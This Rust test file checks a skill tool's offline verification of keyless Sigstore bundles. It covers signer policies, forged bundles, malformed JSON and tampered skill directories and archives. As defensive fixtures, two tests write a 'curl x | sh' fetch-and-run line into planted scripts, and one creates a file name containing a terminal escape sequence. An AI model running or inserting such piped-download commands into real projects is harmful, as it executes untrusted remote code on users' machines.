//! `skillc verify` of keyless (identity-based) Sigstore bundles, offline, against the test
//! Sigstore instance in tests/data/keyless (its README says how every bundle was made): exact
//! outputs and exit codes for the policy flags, each hostile bundle failing at its check, and
//! hostile inputs failing with a named check in bounded time.

use std::path::{Path, PathBuf};

mod common;
use common::{Run, skillc};

const ALPHA: &str = "https://github.com/acme/skills/.github/workflows/release.yml@refs/heads/main";
const GITHUB: &str = "https://token.actions.githubusercontent.com";
const ALPHA_DIGEST: &str = "e7ec9e54e703d7466c5e283676ebfaca196217207a07f6192e7451e624f173ab";

fn data() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/keyless")
}

/// `verify` in tests/data/keyless/file with the test root and `args`.
fn verify_file(args: &[&str]) -> Run {
    let root = data().join("trusted_root.json");
    let mut all = vec!["verify"];
    all.extend_from_slice(args);
    all.extend_from_slice(&["--trusted-root", root.to_str().unwrap()]);
    skillc(&data().join("file"), &all)
}

const NOT_ARCHIVE: &str = "; not a skill archive: only the signature and digest were checked";

#[test]
fn a_message_signature_verifies_with_its_signer() {
    let run = verify_file(&[
        "artifact.txt",
        "--certificate-identity",
        ALPHA,
        "--certificate-oidc-issuer",
        GITHUB,
    ]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        run.stderr,
        format!(
            "OK: artifact.txt (identity {ALPHA}, issuer {GITHUB}, logged at \
             2026-03-02T10:02:38Z{NOT_ARCHIVE})\n"
        )
    );
}

#[test]
fn a_dsse_statement_verifies_and_its_subject_must_be_the_artifact() {
    let args = [
        "--bundle",
        "artifact.txt.intoto.sigstore.json",
        "--certificate-identity",
        ALPHA,
        "--certificate-oidc-issuer",
        GITHUB,
    ];
    let mut ok = vec!["artifact.txt"];
    ok.extend_from_slice(&args);
    let run = verify_file(&ok);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert!(
        run.stderr.starts_with("OK: artifact.txt (identity "),
        "{}",
        run.stderr
    );
    // Another artifact is not the statement's subject.
    let mut wrong = vec!["sha256:0000000000000000000000000000000000000000000000000000000000000000"];
    wrong.extend_from_slice(&args);
    let run = verify_file(&wrong);
    assert_eq!(run.code, Some(1));
    assert!(
        run.stderr.starts_with(
            "FAIL: sha256:0000000000000000000000000000000000000000000000000000000000000000: \
             digest check failed: "
        ),
        "{}",
        run.stderr
    );
}

#[test]
fn a_digest_verifies_without_the_file() {
    let digest = format!(
        "sha256:{}",
        sha256_hex(&std::fs::read(data().join("file/artifact.txt")).unwrap())
    );
    let run = verify_file(&[
        &digest,
        "--bundle",
        "artifact.txt.sigstore.json",
        "--certificate-identity-regexp",
        "https://github\\.com/acme/.*",
        "--certificate-oidc-issuer-regexp",
        "https://token\\.actions\\.githubusercontent\\.com",
    ]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        run.stderr,
        format!(
            "OK: {digest} (identity {ALPHA}, issuer {GITHUB}, logged at 2026-03-02T10:02:38Z)\n"
        )
    );
    // A digest needs --bundle: there is no file to name one after.
    let run = verify_file(&[&digest, "--insecure-ignore-identity"]);
    assert_eq!(run.code, Some(2));
    assert_eq!(
        run.stderr,
        format!("error: verifying `{digest}` (a digest) needs --bundle PATH\n")
    );
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::{Digest, Sha256};
    format!("{:x}", Sha256::digest(bytes))
}

#[test]
fn the_wrong_signer_fails_the_identity_check() {
    let run = verify_file(&[
        "artifact.txt",
        "--certificate-identity",
        "https://github.com/acme/skills/.github/workflows/release.yml@refs/heads/dev",
        "--certificate-oidc-issuer",
        GITHUB,
    ]);
    assert_eq!(run.code, Some(1));
    assert_eq!(
        run.stderr,
        format!(
            "FAIL: artifact.txt: identity check failed: signed by `{ALPHA}` (issuer `{GITHUB}`), \
             which matches no identity given: expected \
             `https://github.com/acme/skills/.github/workflows/release.yml@refs/heads/dev` with \
             issuer `{GITHUB}`\n"
        )
    );
    // The right identity vouched for by another issuer is not the signer either.
    let run = verify_file(&[
        "artifact.txt",
        "--certificate-identity",
        ALPHA,
        "--certificate-oidc-issuer",
        "https://accounts.google.com",
    ]);
    assert_eq!(run.code, Some(1));
    assert!(
        run.stderr.contains("identity check failed"),
        "{}",
        run.stderr
    );
    // A regular expression matches the whole identity, not a part of it.
    let run = verify_file(&[
        "artifact.txt",
        "--certificate-identity-regexp",
        "acme",
        "--certificate-oidc-issuer",
        GITHUB,
    ]);
    assert_eq!(run.code, Some(1));
    assert!(
        run.stderr.contains("expected /acme/ with issuer"),
        "{}",
        run.stderr
    );
}

#[test]
fn identity_pairs_are_taken_in_command_line_order() {
    let other = "maintainer@example.com";
    let oauth = "https://github.com/login/oauth";
    // (other, GITHUB) and (ALPHA, oauth): neither pair is the signer's.
    let run = verify_file(&[
        "artifact.txt",
        "--certificate-identity",
        other,
        "--certificate-oidc-issuer",
        GITHUB,
        "--certificate-identity",
        ALPHA,
        "--certificate-oidc-issuer",
        oauth,
    ]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    // (other, oauth) and (ALPHA, GITHUB): the second pair is.
    let run = verify_file(&[
        "artifact.txt",
        "--certificate-identity",
        other,
        "--certificate-oidc-issuer",
        oauth,
        "--certificate-identity",
        ALPHA,
        "--certificate-oidc-issuer",
        GITHUB,
    ]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    // Two identities, three issuers: no way to pair them.
    let run = verify_file(&[
        "artifact.txt",
        "--certificate-identity",
        other,
        "--certificate-identity",
        ALPHA,
        "--certificate-oidc-issuer",
        oauth,
        "--certificate-oidc-issuer",
        GITHUB,
        "--certificate-oidc-issuer",
        GITHUB,
    ]);
    assert_eq!(run.code, Some(2));
    assert_eq!(
        run.stderr,
        "error: 2 identities and 3 issuers: give one issuer for all identities, or one issuer \
         for each identity (they pair in command-line order)\n"
    );
}

#[test]
fn a_keyless_bundle_without_a_policy_is_refused() {
    let run = verify_file(&["artifact.txt"]);
    assert_eq!(run.code, Some(2));
    assert_eq!(
        run.stderr,
        "error: verify needs who signed: --key PUB for a key-based bundle, or \
         --certificate-identity ID --certificate-oidc-issuer URL for a keyless one (or \
         --insecure-skip-signature to check integrity only)\n"
    );
    let run = verify_file(&["artifact.txt", "--certificate-identity", ALPHA]);
    assert_eq!(run.code, Some(2));
    assert_eq!(
        run.stderr,
        "error: --certificate-identity needs --certificate-oidc-issuer (or \
         --certificate-oidc-issuer-regexp): an identity means something only with the issuer \
         that vouched for it\n"
    );
    let run = verify_file(&[
        "artifact.txt",
        "--certificate-identity-regexp",
        "(",
        "--certificate-oidc-issuer",
        GITHUB,
    ]);
    assert_eq!(run.code, Some(2));
    assert!(
        run.stderr
            .starts_with("error: `(` is not a valid regular expression: "),
        "{}",
        run.stderr
    );
    let run = verify_file(&[
        "artifact.txt",
        "--key",
        "k.pub",
        "--certificate-identity",
        ALPHA,
    ]);
    assert_eq!(run.code, Some(2));
    assert!(run.stderr.contains("cannot be used with"), "{}", run.stderr);
}

#[test]
fn ignoring_the_identity_is_said_so() {
    let run = verify_file(&["artifact.txt", "--insecure-ignore-identity"]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        run.stderr,
        format!(
            "SIGNATURE OK, SIGNER NOT CHECKED (--insecure-ignore-identity): artifact.txt (signed \
             by identity {ALPHA}, issuer {GITHUB}, logged at 2026-03-02T10:02:38Z{NOT_ARCHIVE})\n"
        )
    );
}

#[test]
fn json_output_names_the_signer() {
    let run = verify_file(&[
        "artifact.txt",
        "--certificate-identity",
        ALPHA,
        "--certificate-oidc-issuer",
        GITHUB,
        "--output-format",
        "json",
    ]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let doc: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(
        doc,
        serde_json::json!({
            "artifact": "artifact.txt",
            "ok": true,
            "checks": [{
                "name": "signature",
                "ok": true,
                "detail": "certificate chain, SCT, transparency log, signature and digest verify"
            }],
            "key_hint": null,
            "skill": null,
            "signer": {
                "identity": ALPHA,
                "issuer": GITHUB,
                "logged_at": "2026-03-02T10:02:38Z",
                "identity_checked": true
            }
        })
    );
}

#[test]
fn a_changed_artifact_or_another_root_fails() {
    let tmp = tempfile::tempdir().unwrap();
    let original = std::fs::read(data().join("file/artifact.txt")).unwrap();
    let mut changed = original.clone();
    changed.push(b'\n');
    std::fs::write(tmp.path().join("artifact.txt"), &changed).unwrap();
    let bundle = data().join("file/artifact.txt.sigstore.json");
    let root = data().join("trusted_root.json");
    let policy = [
        "--certificate-identity",
        ALPHA,
        "--certificate-oidc-issuer",
        GITHUB,
    ];
    let mut args = vec![
        "verify",
        "artifact.txt",
        "--bundle",
        bundle.to_str().unwrap(),
        "--trusted-root",
        root.to_str().unwrap(),
    ];
    args.extend_from_slice(&policy);
    let run = skillc(tmp.path(), &args);
    assert_eq!(run.code, Some(1));
    assert!(
        run.stderr
            .starts_with("FAIL: artifact.txt: signature check failed: ")
            || run
                .stderr
                .starts_with("FAIL: artifact.txt: digest check failed: "),
        "{}",
        run.stderr
    );
    // The embedded public-good root does not trust the test instance.
    std::fs::write(tmp.path().join("artifact.txt"), &original).unwrap();
    let mut args = vec![
        "verify",
        "artifact.txt",
        "--bundle",
        bundle.to_str().unwrap(),
    ];
    args.extend_from_slice(&policy);
    let run = skillc(tmp.path(), &args);
    assert_eq!(run.code, Some(1));
    assert!(
        run.stderr.starts_with("FAIL: artifact.txt: ") && run.stderr.contains(" check failed: "),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("identity check"), "{}", run.stderr);
}

#[test]
fn each_hostile_bundle_fails_at_its_check() {
    let expected = [
        (
            "checkpoint-wrong-key",
            "transparency log check failed: invalid checkpoint",
        ),
        (
            "inclusion-proof-forged-sibling",
            "transparency log check failed: invalid inclusion proof",
        ),
        (
            "leaf-expired-at-integrated-time",
            "certificate check failed: ",
        ),
        ("leaf-is-ca", "certificate check failed: "),
        ("leaf-no-codesigning-eku", "certificate check failed: "),
        ("sct-missing", "sct check failed: "),
        ("sct-wrong-key", "sct check failed: "),
        (
            "set-wrong-key",
            "transparency log check failed: invalid inclusion promise",
        ),
    ];
    let digest = format!("sha256:{ALPHA_DIGEST}");
    for (name, check) in expected {
        let bundle = data().join(format!("hostile/{name}.sigstore.json"));
        let run = verify_file(&[
            &digest,
            "--bundle",
            bundle.to_str().unwrap(),
            "--certificate-identity",
            ALPHA,
            "--certificate-oidc-issuer",
            GITHUB,
        ]);
        assert_eq!(run.code, Some(1), "{name}: {}", run.stderr);
        assert!(
            run.stderr.starts_with(&format!("FAIL: {digest}: {check}")),
            "{name}: {}",
            run.stderr
        );
    }
}

#[test]
fn hostile_inputs_fail_with_a_named_check() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let valid: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(data().join("file/artifact.txt.sigstore.json")).unwrap(),
    )
    .unwrap();
    let mut cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "deep",
            format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)).into_bytes(),
            "bundle check failed: ",
        ),
        ("not-json", b"\xff\xfe".to_vec(), "bundle check failed: "),
    ];
    let mut huge = valid.clone();
    huge["verificationMaterial"]["tlogEntries"][0]["logIndex"] =
        serde_json::Value::String("9".repeat(400));
    cases.push((
        "huge-number",
        serde_json::to_vec(&huge).unwrap(),
        "bundle check failed: JSON error: number too large to fit in target type",
    ));
    let mut chain = valid.clone();
    let cert = chain["verificationMaterial"]["certificate"].clone();
    chain["verificationMaterial"]
        .as_object_mut()
        .unwrap()
        .remove("certificate");
    chain["verificationMaterial"]["x509CertificateChain"] =
        serde_json::json!({ "certificates": vec![cert; 900] });
    cases.push((
        "long-chain",
        serde_json::to_vec(&chain).unwrap(),
        "bundle check failed: Bundle error: application/vnd.dev.sigstore.bundle.v0.3+json \
         bundles must use a single certificate, not a chain",
    ));
    std::fs::copy(data().join("file/artifact.txt"), dir.join("artifact.txt")).unwrap();
    let root = data().join("trusted_root.json");
    for (name, bytes, expected) in cases {
        let bundle = dir.join(format!("{name}.json"));
        std::fs::write(&bundle, bytes).unwrap();
        let run = skillc(
            dir,
            &[
                "verify",
                "artifact.txt",
                "--bundle",
                bundle.to_str().unwrap(),
                "--trusted-root",
                root.to_str().unwrap(),
                "--certificate-identity",
                ALPHA,
                "--certificate-oidc-issuer",
                GITHUB,
            ],
        );
        assert_eq!(run.code, Some(1), "{name}: {}", run.stderr);
        assert!(
            run.stderr.starts_with("FAIL: artifact.txt: ") && run.stderr.contains(expected),
            "{name}: {}",
            run.stderr
        );
    }
    // A trusted root that is not one is a named failure too.
    std::fs::write(dir.join("root.json"), b"{}").unwrap();
    let run = skillc(
        dir,
        &[
            "verify",
            "artifact.txt",
            "--bundle",
            data()
                .join("file/artifact.txt.sigstore.json")
                .to_str()
                .unwrap(),
            "--trusted-root",
            "root.json",
            "--insecure-ignore-identity",
        ],
    );
    assert_eq!(run.code, Some(1));
    assert!(
        run.stderr
            .starts_with("FAIL: artifact.txt: trusted root check failed: "),
        "{}",
        run.stderr
    );
}

// ---------------------------------------------------------------------------------------------
// Skill directories signed the haiku.skills way (DIR/SKILL.sigstore).

const HAIKU_NOTE: &str = "note: haiku.skills' directory digest has no separators between a \
     path and its content or between files, so another set of files can have the same digest \
     (`a.md` holding `bc` and `a.mdb` holding `c`); for new skills, `skillc pack` and sign the \
     archive, whose manifest lists every path, size and SHA-256\n";

fn copy_tree(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_tree(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}

/// `verify alpha` in a copy of the skill (under a `.git` directory, so that no `.gitignore`
/// above the temporary directory applies), after `change`.
fn verify_alpha(change: impl FnOnce(&Path), extra: &[&str]) -> Run {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::create_dir(tmp.path().join(".git")).unwrap();
    let alpha = tmp.path().join("alpha");
    copy_tree(&data().join("skills/alpha"), &alpha);
    change(&alpha);
    let root = data().join("trusted_root.json");
    let mut args = vec!["verify", "alpha", "--trusted-root", root.to_str().unwrap()];
    if extra.is_empty() {
        args.extend_from_slice(&[
            "--certificate-identity",
            ALPHA,
            "--certificate-oidc-issuer",
            GITHUB,
        ]);
    } else {
        args.extend_from_slice(extra);
    }
    skillc(tmp.path(), &args)
}

#[test]
fn a_skill_directory_signed_by_haiku_verifies_with_its_signer() {
    let run = verify_alpha(|_| {}, &[]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        run.stderr,
        format!(
            "OK: alpha (identity {ALPHA}, issuer {GITHUB}, logged at 2026-03-02T09:14:30Z; 3 files \
             by haiku.skills' directory digest)\n{HAIKU_NOTE}"
        )
    );
    // What haiku leaves out may change: hidden files, caches, compiled Python, ignored files.
    let run = verify_alpha(
        |dir| {
            std::fs::write(dir.join(".env"), "TOKEN=1").unwrap();
            std::fs::create_dir_all(dir.join("scripts/__pycache__")).unwrap();
            std::fs::write(dir.join("scripts/__pycache__/run.cpython-311.pyc"), "x").unwrap();
            std::fs::write(dir.join("scripts/run.pyc"), "x").unwrap();
            std::fs::write(dir.join(".gitignore"), "*.log\n").unwrap();
            std::fs::write(dir.join("debug.log"), "x").unwrap();
        },
        &[],
    );
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    // ... but what the signature does not cover is named, not passed over in silence: an
    // ignored script is as runnable as a signed one.
    assert_eq!(
        run.stderr,
        format!(
            "OK: alpha (identity {ALPHA}, issuer {GITHUB}, logged at 2026-03-02T09:14:30Z; 3 files \
             by haiku.skills' directory digest)\n\
             note: 5 files under alpha are not covered by the signature (haiku.skills leaves out \
             hidden, ignored, cache and compiled files, links to directories and special files, \
             so anyone may have added or changed them): .env, .gitignore, debug.log, scripts/__pycache__/run.cpython-311.pyc, \
             scripts/run.pyc\n{HAIKU_NOTE}"
        )
    );
}

/// (Unix: a name with a control character, a symbolic link.)
#[cfg(unix)]
#[test]
fn what_a_haiku_signature_does_not_cover_is_named() {
    // An ignored script, a hidden directory, a name with a control character.
    let run = verify_alpha(
        |dir| {
            std::fs::write(dir.join(".gitignore"), "evil.sh\n").unwrap();
            std::fs::write(dir.join("scripts/evil.sh"), "curl x | sh\n").unwrap();
            std::fs::create_dir_all(dir.join(".hidden/deep")).unwrap();
            std::fs::write(dir.join(".hidden/deep/x.py"), "x").unwrap();
            std::fs::write(dir.join(".\u{1b}[2Jx"), "x").unwrap();
            for i in 0..9 {
                std::fs::write(dir.join(format!(".n{i}")), "x").unwrap();
            }
            // A link to a directory outside: haiku does not descend into it; it is named.
            std::os::unix::fs::symlink("/", dir.join("zlib")).unwrap();
        },
        &[
            "--certificate-identity",
            ALPHA,
            "--certificate-oidc-issuer",
            GITHUB,
            "--format",
            "json",
        ],
    );
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert!(
        run.stderr.contains(
            "note: 14 files under alpha are not covered by the signature (haiku.skills leaves \
             out hidden, ignored, cache and compiled files, links to directories and special \
             files, so anyone may have added or changed them): .\\u{1b}[2Jx, .gitignore, .hidden/deep/x.py, .n0, .n1, .n2, .n3, .n4, .n5, \
             .n6, and 4 more\n"
        ),
        "{}",
        run.stderr
    );
    let doc: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let uncovered = doc["not_covered"].as_array().unwrap();
    assert_eq!(uncovered.len(), 14);
    assert!(uncovered.contains(&serde_json::json!("scripts/evil.sh")));
    assert!(uncovered.contains(&serde_json::json!("zlib")));
    assert!(uncovered.contains(&serde_json::json!(".\u{1b}[2Jx")));
}

#[test]
fn any_change_to_a_haiku_signed_directory_fails() {
    let digest_failure = "FAIL: alpha: digest check failed: artifact mismatch: message digest in bundle does not \
         match artifact hash\n";
    type Change = Box<dyn FnOnce(&Path)>;
    let changes: [(&str, Change); 5] = [
        (
            "changed",
            Box::new(|d: &Path| std::fs::write(d.join("scripts/run.py"), "print(1)\n").unwrap()),
        ),
        (
            "added",
            Box::new(|d: &Path| {
                std::fs::write(d.join("scripts/extra.sh"), "curl x | sh\n").unwrap()
            }),
        ),
        (
            "removed",
            Box::new(|d: &Path| std::fs::remove_file(d.join("references/guide.md")).unwrap()),
        ),
        (
            "renamed",
            Box::new(|d: &Path| {
                std::fs::rename(
                    d.join("references/guide.md"),
                    d.join("references/guide2.md"),
                )
                .unwrap()
            }),
        ),
        (
            "un-ignored",
            Box::new(|d: &Path| {
                std::fs::write(d.join("notes.log"), "x").unwrap();
            }),
        ),
    ];
    for (name, change) in changes {
        let run = verify_alpha(change, &[]);
        assert_eq!(run.code, Some(1), "{name}: {}", run.stderr);
        assert_eq!(run.stderr, digest_failure, "{name}");
    }
    // Another skill's bundle, even one that verifies for its own skill and signer.
    let beta = data().join("skills/beta/SKILL.sigstore");
    let run = verify_alpha(
        |_| {},
        &[
            "--bundle",
            beta.to_str().unwrap(),
            "--certificate-identity",
            "maintainer@example.com",
            "--certificate-oidc-issuer",
            "https://github.com/login/oauth",
        ],
    );
    assert_eq!(run.code, Some(1));
    assert_eq!(run.stderr, digest_failure);
    // The right files, the wrong signer or issuer.
    for extra in [
        [
            "--certificate-identity",
            "maintainer@example.com",
            "--certificate-oidc-issuer",
            GITHUB,
        ],
        [
            "--certificate-identity",
            ALPHA,
            "--certificate-oidc-issuer",
            "https://github.com/login/oauth",
        ],
    ] {
        let run = verify_alpha(|_| {}, &extra);
        assert_eq!(run.code, Some(1), "{extra:?}");
        assert!(
            run.stderr
                .starts_with("FAIL: alpha: identity check failed: "),
            "{}",
            run.stderr
        );
    }
    // No policy: exit 2, nothing verified.
    let run = verify_alpha(|_| {}, &["--output-format", "text"]);
    assert_eq!(run.code, Some(2));
    assert!(
        run.stderr.starts_with("error: verify needs who signed"),
        "{}",
        run.stderr
    );
}

// ---------------------------------------------------------------------------------------------
// A skill archive made by `skillc pack`, signed keyless as `skillc pack --keyless` would (a
// message signature over the archive's bytes): archive/gamma.skill.tar.gz.

/// When the log integrated the archive's signing (gen.py: 23 s after the certificate's start).
const GAMMA_LOGGED_AT: &str = "2026-03-02T11:41:32Z";

/// `skillc COMMAND gamma.skill.tar.gz` in `dir` (the archive's own directory by default), with
/// the test root, `policy` and `extra`.
fn on_gamma(dir: Option<&Path>, command: &str, extra: &[&str], policy: &[&str]) -> Run {
    let root = data().join("trusted_root.json");
    let mut args = vec![command, "gamma.skill.tar.gz"];
    args.extend_from_slice(extra);
    args.extend_from_slice(policy);
    args.extend_from_slice(&["--trusted-root", root.to_str().unwrap()]);
    let archive_dir = data().join("archive");
    skillc(dir.unwrap_or(&archive_dir), &args)
}

const ALPHA_POLICY: [&str; 4] = [
    "--certificate-identity",
    ALPHA,
    "--certificate-oidc-issuer",
    GITHUB,
];

/// Every path under `dir` (directories end in `/`), '/'-separated, sorted.
fn tree(dir: &Path) -> Vec<String> {
    fn walk(root: &Path, dir: &Path, out: &mut Vec<String>) {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            let rel = path
                .strip_prefix(root)
                .unwrap()
                .to_str()
                .unwrap()
                .replace('\\', "/");
            if path.is_dir() {
                out.push(format!("{rel}/"));
                walk(root, &path, out);
            } else {
                out.push(rel);
            }
        }
    }
    let mut out = Vec::new();
    walk(dir, dir, &mut out);
    out.sort();
    out
}

#[test]
fn a_keyless_signed_skill_archive_verifies_with_its_signer() {
    let run = on_gamma(None, "verify", &[], &ALPHA_POLICY);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        run.stderr,
        format!(
            "OK: gamma.skill.tar.gz (identity {ALPHA}, issuer {GITHUB}, logged at \
             {GAMMA_LOGGED_AT}, skill gamma)\n"
        )
    );
    assert_eq!(run.stdout, "");
}

#[test]
fn a_keyless_signed_skill_archive_unpacks_after_verifying() {
    let tmp = tempfile::tempdir().unwrap();
    let dest = tmp.path().join("dest");
    let dest_arg = dest.to_str().unwrap();
    let run = on_gamma(None, "unpack", &["-C", dest_arg], &ALPHA_POLICY);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        run.stderr,
        format!(
            "Unpacked `gamma` (2 files and the manifest) into {}\n",
            dest.join("gamma").display()
        )
    );
    assert_eq!(
        tree(&dest),
        [
            "gamma/",
            "gamma/.skill-manifest.json",
            "gamma/SKILL.md",
            "gamma/references/",
            "gamma/references/notes.md",
        ]
    );
    let src = data().join("archive/gamma-src/gamma");
    for rel in ["SKILL.md", "references/notes.md"] {
        assert_eq!(
            std::fs::read(dest.join("gamma").join(rel)).unwrap(),
            std::fs::read(src.join(rel)).unwrap(),
            "{rel}"
        );
    }
    // The unpacked directory verifies against its manifest, as any unpacked skill does.
    let run = skillc(&dest, &["verify", "gamma", "--insecure-skip-signature"]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);

    // Not checking who signed is said so.
    let other = tmp.path().join("other");
    let run = on_gamma(
        None,
        "unpack",
        &["-C", other.to_str().unwrap()],
        &["--insecure-ignore-identity"],
    );
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        run.stderr,
        format!(
            "Unpacked `gamma` (2 files and the manifest) into {}\nnote: the signature was \
             checked, not who signed it (--insecure-ignore-identity): pass \
             --certificate-identity ID --certificate-oidc-issuer URL to verify who signed it \
             first\n",
            other.join("gamma").display()
        )
    );
}

#[test]
fn a_keyless_signed_skill_archive_by_another_signer_unpacks_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let dest = tmp.path().join("dest");
    std::fs::create_dir(&dest).unwrap();
    let dev = "https://github.com/acme/skills/.github/workflows/release.yml@refs/heads/dev";
    let run = on_gamma(
        None,
        "unpack",
        &["-C", dest.to_str().unwrap()],
        &[
            "--certificate-identity",
            dev,
            "--certificate-oidc-issuer",
            GITHUB,
        ],
    );
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert_eq!(
        run.stderr,
        format!(
            "FAIL: gamma.skill.tar.gz: identity check failed: signed by `{ALPHA}` (issuer \
             `{GITHUB}`), which matches no identity given: expected `{dev}` with issuer \
             `{GITHUB}`\nnothing was unpacked\n"
        )
    );
    assert_eq!(tree(&dest), Vec::<String>::new());
}

#[test]
fn a_changed_byte_in_a_keyless_signed_skill_archive_fails() {
    let archive = std::fs::read(data().join("archive/gamma.skill.tar.gz")).unwrap();
    let tmp = tempfile::tempdir().unwrap();
    std::fs::copy(
        data().join("archive/gamma.skill.tar.gz.sigstore.json"),
        tmp.path().join("gamma.skill.tar.gz.sigstore.json"),
    )
    .unwrap();
    // The untouched copy verifies where it is.
    std::fs::write(tmp.path().join("gamma.skill.tar.gz"), &archive).unwrap();
    let run = on_gamma(Some(tmp.path()), "verify", &[], &ALPHA_POLICY);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    // One bit of one byte, in the middle of the compressed data, or the last byte (the
    // gzip trailer's size).
    for at in [archive.len() / 2, archive.len() - 1] {
        let mut changed = archive.clone();
        changed[at] ^= 0x01;
        std::fs::write(tmp.path().join("gamma.skill.tar.gz"), &changed).unwrap();
        let run = on_gamma(Some(tmp.path()), "verify", &[], &ALPHA_POLICY);
        assert_eq!(run.code, Some(1), "byte {at}: {}", run.stderr);
        assert_eq!(
            run.stderr,
            "FAIL: gamma.skill.tar.gz: digest check failed: artifact mismatch: message digest \
             in bundle does not match artifact hash\n",
            "byte {at}"
        );
        let dest = tmp.path().join("dest");
        let run = on_gamma(
            Some(tmp.path()),
            "unpack",
            &["-C", dest.to_str().unwrap()],
            &ALPHA_POLICY,
        );
        assert_eq!(run.code, Some(1), "byte {at}: {}", run.stderr);
        assert!(
            run.stderr.ends_with("nothing was unpacked\n"),
            "byte {at}: {}",
            run.stderr
        );
        assert!(!dest.join("gamma").exists(), "byte {at}");
    }
}

#[test]
fn what_has_only_a_signature_does_not_offer_an_integrity_check() {
    // A haiku-signed directory or a bare digest has nothing to check without its signature:
    // the refusal must not suggest --insecure-skip-signature, least of all when it was given.
    let digest = format!("sha256:{}", "ab".repeat(32));
    let bundle = data().join("file/artifact.txt.sigstore.json");
    for skip in [false, true] {
        let mut extra = vec![];
        if skip {
            extra.push("--insecure-skip-signature");
        }
        let run = verify_alpha(|_| {}, &[&["--format", "text"][..], &extra].concat());
        let mut args = vec!["verify", &digest, "--bundle", bundle.to_str().unwrap()];
        args.extend_from_slice(&extra);
        let digest_run = skillc(&data(), &args);
        for run in [run, digest_run] {
            assert_eq!(run.code, Some(2), "{}", run.stderr);
            assert!(
                run.stderr.starts_with("error: verify needs who signed: "),
                "{}",
                run.stderr
            );
            assert!(
                !run.stderr
                    .contains("--insecure-skip-signature to check integrity only"),
                "{}",
                run.stderr
            );
            assert!(
                run.stderr
                    .contains("has nothing to check but its signature"),
                "{}",
                run.stderr
            );
        }
    }
}
